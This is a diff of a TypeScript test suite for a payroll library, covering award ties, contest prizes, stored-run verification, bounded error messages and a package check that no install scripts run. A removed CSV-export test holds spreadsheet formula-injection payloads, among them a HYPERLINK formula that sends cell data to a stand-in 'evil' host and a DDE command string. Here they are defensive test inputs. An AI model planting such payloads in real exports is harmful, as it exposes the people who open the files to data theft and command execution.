-      }))
-      const standings = rankContest(contest, credits)
-      expect(new Set(standings.map(({ place }) => place))).toEqual(new Set([1]))
-      expect(standings.map(({ prize }) => prize)).toContain('0.67')
-      const cents = standings.map(({ prize }) => Math.round(Number(prize) * 100))
-      expect(cents.reduce((sum, each) => sum + each, 0)).toBe(101_000)
-    })
+  test('A24 gives pay or a PolicyError, and nothing else, whatever is changed in it', () => {
+    const asked = { data: whole, request: june }
+    const paths = pathsIn(asked).filter((path) => path.length > 1)
+    const odd = fc.constantFrom<unknown>(
+      ...[undefined, null, {}, [], 'x', '', 5, true, [null], { x: null }, '0x10', '2026-13'],
+    )
+    fc.assert(
+      fc.property(fc.constantFrom(...paths), odd, (path, value) => {
+        const { data, request } = replaced(asked, path, value) as typeof asked
+        const told = problemsOf(() => payOf(data, request))
+        expect(describeProblems(told, 'zh-CN')).not.toContain('undefined undefined')
+      }),
+      { numRuns: 200 },
+    )
   })
 
-  describe('A19 a journal as CSV', () => {
-    const [row] = journal(run.statements, { locale: 'en' }) as readonly [JournalRow]
-    const cells = (change: Partial<JournalRow>, options?: Parameters<typeof journalCsv>[1]) =>
-      journalCsv([{ ...row, ...change }], options).slice(journalCsv([], options).length)
+  const stored = JSON.parse(JSON.stringify(viewOf('employee'))) as payroll.View
+  test.each<[string, (json: unknown) => unknown, object, string]>([
+    ['a run', parsePayRun, { ...paid, owde: {} }, 'owde'],
+    ['the lines of a run', parsePayRun, { ...paid, lines: {} }, 'lines'],
+    [
+      'a line of a run',
+      parsePayRun,
+      { ...paid, lines: [{ ...paid.lines[0], note: 'x' }] },
+      'lines[0].note',
+    ],
+    ['a view', payroll.parseView, { ...stored, hrNote: 'x' }, 'hrNote'],
+    [
+      'a line of a view',
+      payroll.parseView,
+      { ...stored, lines: [{ ...stored.lines[0], note: 'x' }] },
+      'lines[0].note',
+    ],
+  ])(
+    'A24 what is stored is refused for a misspelt or a wrong part: %s',
+    (_, parse, value, path) => {
+      expect(problemsOf(() => parse(value)).map((each) => each.path)).toContain(path)
+    },
+  )
 
-    test.each([
-      '=HYPERLINK("http://evil/?"&A1)',
-      "+1+cmd|'/C calc'!A0",
-      '-2+3',
-      '@SUM(A1)',
-      '\tx',
-      '\rx',
-      '\nx',
-      '＝1+1',
-      '＋1',
-      '－1',
-      '＠x',
-      '  =1',
-      '\u0000=1',
-      '\u200E=1',
-    ])('runs no text: %j', (text) => {
-      for (const column of [
-        'person',
-        'name',
-        'costCentre',
-        'label',
-        'clause',
-        'source',
-        'department',
-      ] as const)
-        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
-      expect(cells({ name: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
-    })
-
-    test('keeps amounts, and a name that is none', () => {
-      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
-      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
-      expect(cells({ name: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
-      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
-    })
-
-    test('holds no control character', () => {
-      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
-      expect(cells({ name: hostile })).toContain(',ab[31mcdefg,')
-      expect(cells({ name: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
-      expect(cells({ name: 'two\tparts' })).toContain(',two\tparts,')
-    })
-
-    test('begins with a mark where that is asked for', () => {
-      expect(journalCsv([], { mark: true })).toBe(`\uFEFF${journalCsv([])}`)
-    })
+  test('A24 a view that was stored is verified, or refused when it is read', () => {
+    const { root } = payroll.seal(of, known, paid, { key, about })
+    const paths = pathsIn(stored).filter((path) => path.length > 0)
+    const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', 5)
+    fc.assert(
+      fc.property(fc.constantFrom(...paths), odd, (path, value) => {
+        const changed = replaced(stored, path, value) as payroll.View
+        if (JSON.stringify(changed) === JSON.stringify(stored)) return
+        expect(payroll.verifyView(changed, root).length).toBeGreaterThan(0)
+        problemsOf(() => payroll.verifyView(payroll.parseView(changed), root))
+      }),
+      { numRuns: 50 },
+    )
   })
 
-  /** Every object with a member that no statement has. */
+  test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
+    'A25 an amount of %s is paid to nobody',
+    (amount) => {
+      const [correction] = whole.records.adjustments
+      const records = { adjustments: [{ ...correction, amount }] }
+      // A text in a record may be anything; as an amount it is none.
+      const paidOf = () =>
+        payOf({ ...whole, records }).lines.filter(({ component }) => component === 'adjustments')
+      expect(problemsOf(paidOf).length > 0 || paidOf().length === 0).toBe(true)
+      const deals = { events: [sale('s', '2026-06-10', amount)] }
+      expect(problemsOf(() => payOf({ ...whole, deals }))[0]?.path).toBe('deals.events[0].amount')
+    },
+  )
+
+  /** Every object with a member that no run has, but for what formulas read: that has any names. */
   function noted<T>(value: T): T {
     if (typeof value !== 'object' || value === null) return value
     if (Array.isArray(value)) return value.map(noted) as T
-    const own = Object.entries(value).map(([name, inner]) => [name, noted(inner)])
-    return { ...Object.fromEntries(own), '§note': '§' } as T
-  }
-
-  /** A statement with a mark before every text that an audience may not see. */
-  function hiddenMarked(statement: Statement, audience: Audience): Statement {
-    const all = audience === 'auditor'
-    const seen = {
-      auditor: Object.keys(statement),
-      employee: [
-        'person',
-        'name',
-        'department',
-        'departmentLabel',
-        'costCentre',
-        'period',
-        'currency',
-        'total',
-      ],
-      manager: [
-        'person',
-        'name',
-        'department',
-        'departmentLabel',
-        'costCentre',
-        'period',
-        'currency',
-        'total',
-      ],
-      peer: ['name', 'department', 'departmentLabel', 'period'],
-    }[audience]
-    const ofLine = (line: Statement['lines'][number]): readonly string[] => {
-      const others = line.kind === 'pool' || line.kind === 'award'
-      if (all || (audience === 'employee' && !others)) return Object.keys(line)
-      if (audience === 'peer')
-        return line.kind === 'award' ? ['kind', 'source', 'label', 'place'] : ['kind']
-      return [
-        'kind',
-        'source',
-        'label',
-        'clause',
-        'amount',
-        ...(audience === 'employee' ? ['place'] : []),
-      ]
-    }
-    const lines = statement.lines.map((line) => markedBut(line, ofLine(line)))
-    return { ...markedBut(statement, [...seen, 'lines']), lines }
-  }
-
-  function markedBut<T extends object>(object: T, kept: readonly string[]): T {
-    const mark = (value: unknown): unknown => {
-      if (typeof value === 'string') return `§${value}`
-      if (typeof value !== 'object' || value === null) return value
-      if (Array.isArray(value)) return value.map(mark)
-      return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, mark(inner)]))
-    }
-    const own = Object.entries(object).map(([name, value]) => [
+    const own = Object.entries(value).map(([name, inner]) => [
       name,
-      kept.includes(name) ? value : mark(value),
+      name === 'read' ? inner : noted(inner),
     ])
-    return Object.fromEntries(own) as T
-  }
-
-  /** The problems of a PolicyError; every other error is a defect. */
-  function problemsIn(task: () => unknown): PolicyError['problems'] {
-    try {
-      task()
-    } catch (error) {
-      if (error instanceof PolicyError) return error.problems
-      throw error
-    }
-    throw new Error('it was not refused')
-  }
-
-  function orProblems(task: () => unknown): void {
-    try {
-      task()
-    } catch (error) {
-      if (!(error instanceof PolicyError)) throw error
-      expect(describeProblems(error.problems, 'zh-CN')).not.toContain('undefined undefined')
-    }
+    return { ...Object.fromEntries(own), '¤note': '¤' } as T
   }
 })
 
-describe('spans: a chain of runs that pays no period twice', () => {
-  const plain = {
-    ...{ service: 'none', scorecard: 'none', territory: 'none', returning: 'none' },
-    crediting: 'none',
-    operations: { ...operations, commission: undefined },
+describe('awards: an award of which all win', () => {
+  const terms = {
+    id: 'present',
+    currency: 'CNY',
+    eligibility: [],
+    ranking: [{ figure: 'days', unit: 'count', direction: 'higher' }],
+    prizes: ['100'],
+    budget: '100000',
   }
-  const [book, data, january] = request({
-    book: bookOf(plain),
-    people: [{ ...ann, figures: {} }],
-    events: [],
-    period: '2026-07',
-  })
-  const next = (before: RunData['before'], period = january, of = book) =>
-    runCompensation(of, { ...data, asOf: '2026-12-31', before }, period)
-  const first = next('first')
-  const second = next(first, nextPeriod(january))
-  const third = next(second, parsePeriod('2026-09'))
+  const entries = (many: number, days: (i: number) => number) =>
+    Array.from({ length: many }, (_, i) => ({
+      id: `p${String(i).padStart(5, '0')}`,
+      figures: { days: days(i) },
+    }))
+  const asOf = '2026-06-30'
+  const give = (change: object, many: number, days: (i: number) => number = () => 21) =>
+    giveAward(parseAward({ ...terms, ...change }), { asOf, entries: entries(many, days) })
+  const textOf = (result: ReturnType<typeof give>, id: string, locale: 'en' | 'zh-CN' = 'en') =>
+    renderText(explainAward(result, id, { locale }))
 
-  test.each<[string, CompensationRun, string]>([
-    ['the same period', first, '2026-07'],
-    ['a period of the past', third, '2026-07'],
-    ['a period too far on', first, '2026-09'],
-  ])('A4 %s is not paid after a run', (_, before, name) => {
-    expect(found(() => next(before, parsePeriod(name)))).toEqual([
-      ['not-the-run-before', 'before.period'],
-    ])
-  })
-
-  test('A4 nor a run in another currency', () => {
-    const yen = parseBook({ ...bookOf(plain), currency: 'JPY' })
-    expect(found(() => next(first, nextPeriod(january), yen))).toEqual([
-      ['other-currency', 'before.currency'],
-    ])
+  test('A5 names five, and counts the others', () => {
+    const result = give({ ties: 'all-win' }, 1_001)
+    expect(textOf(result, 'p00003')).toContain(
+      'Equal in every criterion: p00000, p00001, p00002, p00004, p00005 and 995 others\n',
+    )
+    expect(textOf(result, 'p00003', 'zh-CN')).toContain('p00004、p00005，另有 995 名\n')
+    expect(textOf(give({ ties: 'all-win' }, 7), 'p00000')).toContain('p00005 and 1 other\n')
+    expect(textOf(give({ ties: 'all-win' }, 6), 'p00000')).toMatch(/p00005$/m)
   })
 
-  test.each<[string, readonly CompensationRun[], readonly string[]]>([
-    ['in order', [first, second, third], []],
-    ['with a period twice', [first, first], ['broken-order', 'broken-chain']],
-    ['with a period left out', [first, third], ['broken-order', 'broken-chain']],
-    ['turned round', [second, first], ['broken-order', 'broken-chain']],
-  ])('A4 a chain %s is told', (_, runs, codes) => {
-    expect(verifyChain(runs).map(({ code }) => code)).toEqual(codes)
+  test.each([
+    ['all win, beyond the budget', { ties: 'all-win' }, () => 21, '50.00'],
+    [
+      'all share as many prizes',
+      { ties: 'share', prizes: Array(2_000).fill('10') },
+      () => 21,
+      '10.00',
+    ],
+    ['all share one prize', { ties: 'share' }, () => 21, '0.05'],
+    ['no two are equal', { ties: 'all-win' }, (i: number) => 9_999 - i, '100.00'],
+  ])('A5 takes work and text by the number of entries: %s', (_, change, days, prize) => {
+    const result = give(change, 2_000, days)
+    expect(result.standings[0]?.prize).toBe(prize)
+    const texts = result.standings.map(({ id }) => textOf(result, id))
+    expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(500)
+    expect(JSON.stringify(result).length).toBeLessThan(2_000 * 300 + JSON.stringify(change).length)
+  })
+
+  test('A5 is paid to 400 people in lines and explanations of a size that does not grow with them', () => {
+    const everybody = entries(400, () => 21).map(({ id }) => ({
+      ...payLi(figuresOf({ days: '21' }, '2026-06')),
+      id,
+      name: `Name of ${id}`,
+    }))
+    const { id: _, currency: __, ...own } = terms
+    const book = shopOf({
+      more: [shopPolicy('award', 'star', { award: { ...own, ties: 'all-win' } })],
+    })
+    const { data } = payroll.parseRunData(book, { people: everybody })
+    const run = payroll.run(book, data, { period: '2026-06', before: 'first' })
+    const [company] = payroll.totals(book, data, [run]).paid
+    expect(company?.company.components['star']).toBe('40000.00')
+    const lines = run.lines.filter(({ component }) => component === 'star')
+    expect(Math.max(...lines.map((line) => JSON.stringify(line).length))).toBeLessThan(2_000)
+    for (const locale of ['en', 'zh-CN'] as const) {
+      const why = explainPay(book, data, run, { component: 'star', person: 'p00007', locale })
+      expect(renderText(why).length).toBeLessThan(3_000)
+    }
+  })
+
+  test('A5 of sales as well: a contest in which all are equal', () => {
+    const contest = parseContest({
+      id: 'c',
+      currency: 'CNY',
+      credit: 'direct',
+      from: '2026-06-01',
+      to: '2026-06-30',
+      prizes: ['1000', '10'],
+    })
+    const credits = entries(1_500, () => 1).map(({ id }) => ({
+      event: id,
+      kind: 'order' as const,
+      effective: '2026-06-02',
+      recorded: '2026-06-02',
+      dealt: '2026-06-02',
+      booked: '2026-06-02',
+      deal: id,
+      credit: 'direct',
+      person: id,
+      amount: '5.00',
+      currency: 'CNY' as const,
+      figures: {},
+      attributes: {},
+    }))
+    const standings = rankContest(contest, credits)
+    expect(new Set(standings.map(({ place }) => place))).toEqual(new Set([1]))
+    expect(standings.map(({ prize }) => prize)).toContain('0.67')
+    const cents = standings.map(({ prize }) => Math.round(Number(prize) * 100))
+    expect(cents.reduce((sum, each) => sum + each, 0)).toBe(101_000)
   })
 })
 
@@ -1147,47 +860,32 @@ describe('problem: what is refused is told shortly, and hostile text stays text'
   }
 
   /** A book of so many departments that name payment policies, and of so many such policies. */
-  const bookOf = (count: number, wanted: (i: number) => string) => ({
-    id: 'book',
-    currency: 'CNY',
-    rounding: 'half-up',
-    proration: { basis: 'calendar-days' },
-    policies: Array.from({ length: count }, (_, i) => [
+  /** Components of long names, and as many limits that name what is wanted. */
+  const bookOf = (count: number, wanted: (i: number) => string) =>
+    bookJson(
+      Array.from({ length: count }, (_, i) =>
+        shopPolicy('salary', `${'p'.repeat(56)}${String(i).padStart(4, '0')}`, { prorated: false }),
+      ),
       {
-        kind: 'department',
-        id: `d${i}`,
-        owner: 'HR',
-        versions: [
-          {
-            from: '2026-01-01',
-            reason: 'New',
-            terms: { label: 'D', components: [], payments: wanted(i) },
-          },
-        ],
+        limits: Array.from({ length: count }, (_, i) => ({
+          ...{ id: `l${i}`, most: '1', breach: 'report' },
+          of: { components: [wanted(i)] },
+        })),
       },
-      {
-        kind: 'payments',
-        id: `${'p'.repeat(56)}${String(i).padStart(4, '0')}`,
-        owner: 'HR',
-        versions: [
-          { from: '2026-01-01', reason: 'New', terms: { currency: 'CNY', rounding: 'half-up' } },
-        ],
-      },
-    ]).flat(),
-  })
+    )
 
   test.each<[string, (i: number) => string, RegExp]>([
     ['near names', (i) => `${'p'.repeat(56)}x${i}`, /Perhaps "p{56}\d+" was meant/],
-    ['far names', (i) => `${'z'.repeat(50)}${i}`, /Use one of: .* and 1180 more/],
-    ['one name', () => 'nobody', /Use one of: .* and 1180 more/],
+    ['far names', (i) => `${'z'.repeat(50)}${i}`, /Use one of: .* and 380 more/],
+    ['one name', () => 'nobody', /Use one of: .* and 380 more/],
   ])('A6 nearest names are bounded: %s', (_, wanted, hint) => {
-    const problems = problemsOf(() => parseBook(bookOf(1_200, wanted)))
+    const problems = problemsOf(() => payroll.parseBook(bookOf(400, wanted)))
     expect(problems.map(({ code }) => code)).toEqual([
-      ...Array.from({ length: 99 }, () => 'unknown-reference'),
+      ...Array.from({ length: 99 }, () => 'unknown-component'),
       'more-problems',
     ])
     expect(problems[0]?.hint.en).toMatch(hint)
-    expect(messageOf(() => parseBook(bookOf(1_200, wanted))).length).toBeLessThan(longest)
+    expect(messageOf(() => payroll.parseBook(bookOf(400, wanted))).length).toBeLessThan(longest)
   })
 
   const longKey = 'k'.repeat(1e6)
@@ -1207,8 +905,11 @@ describe('problem: what is refused is told shortly, and hostile text stays text'
 
   test.each<[string, () => unknown]>([
     ['a million zeros', () => parseEvents(Array(1e6).fill(0))],
-    ['many people without anything', () => parsePeople(Array.from({ length: 80_000 }, () => ({})))],
-    ['many rates of one list', () => parseBook({ policies: Array(30_000).fill(0) })],
+    [
+      'many people without anything',
+      () => parsePayPeople(Array.from({ length: 80_000 }, () => ({}))),
+    ],
+    ['many rates of one list', () => payroll.parseBook({ policies: Array(30_000).fill(0) })],
     [
       'many hostile values',
       () => parseFormula({ op: 'add', of: Array(100_000).fill(new Date(0)) }),
@@ -1216,7 +917,9 @@ describe('problem: what is refused is told shortly, and hostile text stays text'
     [
       'many unknown keys',
       () =>
-        parsePeople([Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i]))]),
+        parsePayPeople([
+          Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i])),
+        ]),
     ],
   ])('A8 problems are listed up to 100: %s', (_, task) => {
     const problems = problemsOf(task)
@@ -1370,8 +1073,8 @@ describe('problem: what is refused is told shortly, and hostile text stays text'
             throw new PolicyError([each])
           }),
     ],
-    ['a reference', () => parseBook(bookOf(1, () => 'x'.repeat(9_000)))],
-    ['an id', () => parsePeople(Array(2).fill({ id: 'x'.repeat(9_000), name: 'X' }))],
+    ['a reference', () => payroll.parseBook(bookOf(1, () => 'x'.repeat(9_000)))],
+    ['an id', () => parsePayPeople(Array(2).fill({ id: 'x'.repeat(9_000), name: 'X' }))],
     ['a period', () => parsePeriod('x'.repeat(1e6))],
   ])('A23 a message quotes the beginning of a text: %s', (_, task) => {
     const message = messageOf(task)
@@ -1614,8 +1317,8 @@ describe('problem: what is refused is told shortly, and hostile text stays text'
     ['a line break', 'ann\nbob', 'not-a-plain-id'],
     ['half a character', 'ann\ud83d', 'broken-text'],
   ])('A37 %s is no part of an id', (_, id, code) => {
-    const person = { id, name: 'Ann', department: 'd', employment: { from: '2026-01-01' }, pay: {} }
-    expect(found(() => parsePeople([person]))[0]).toEqual([code, '[0].id'])
+    const person = { id, name: 'Ann', employment: [{ from: '2026-01-01' }], attributes: {} }
+    expect(found(() => parsePayPeople([person]))[0]).toEqual([code, '[0].id'])
     expect(found(() => parseEvents([{ kind: 'order', id }]))[0]).toEqual([code, '[0].id'])
     expect(found(() => parseCareer(career.framework, { ...career.json, id }))).toEqual([
       [code, 'id'],
@@ -1986,6 +1689,21 @@ describe('payroll: a chain of runs proves what was paid', () => {
     expect(told([january, whole])[0]?.[1]).toMatch(/^\[1\]\./)
   })
 
+  test.each<[string, (run: PayRun) => object, string]>([
+    ['what was settled', ({ state }) => ({ state: { ...state, settled: [] } }), 'state.settled'],
+    [
+      'what is left over of a leaver',
+      ({ lines: [line] }) => ({
+        leftOver: [{ component: 'base', owner: { person: line?.person }, value: '500.00' }],
+      }),
+      'leftOver',
+    ],
+  ])('A17 %s in a run that was made anew is told', (_, change, path) => {
+    const anew = forged(february, change(february))
+    expect(verifyRun(of, people, anew, { before: january })[0]?.path).toMatch(path)
+    expect(told([january, anew], { head: february.digest }).length).toBeGreaterThan(0)
+  })
+
   test('A18 a chain tells what digests alone do not', () => {
     expect(told([january, february], { head })).toEqual([['not-the-head', '[1].digest']])
     expect(told([february, march], { head })).toEqual([['not-the-first', '[0].before']])
@@ -2344,5 +2062,24 @@ describe('payroll: a view of the new run confirms no guess, and holds nothing th
         expect(plain).not.toMatch(/[`*[\]<>@]|:\/\/|www\./)
       }
     }
+  })
+})
+
+describe('package: where a fault is told, and who built what is published', () => {
+  const read = (name: string) => readFileSync(new URL(`../../${name}`, import.meta.url), 'utf8')
+  const manifest = JSON.parse(read('package.json')) as {
+    readonly files: readonly string[]
+    readonly publishConfig?: { readonly provenance?: boolean }
+    readonly scripts: Readonly<Record<string, string>>
+  }
+
+  test('A38 the package carries a policy of security, and is published with provenance', () => {
+    expect(manifest.files).toContain('SECURITY.md')
+    expect(read('SECURITY.md')).toMatch(/report/i)
+    expect(manifest.publishConfig?.provenance).toBe(true)
+  })
+
+  test.each(['preinstall', 'install', 'postinstall'])('A38 nothing runs at %s', (script) => {
+    expect(manifest.scripts).not.toHaveProperty(script)
   })
 })
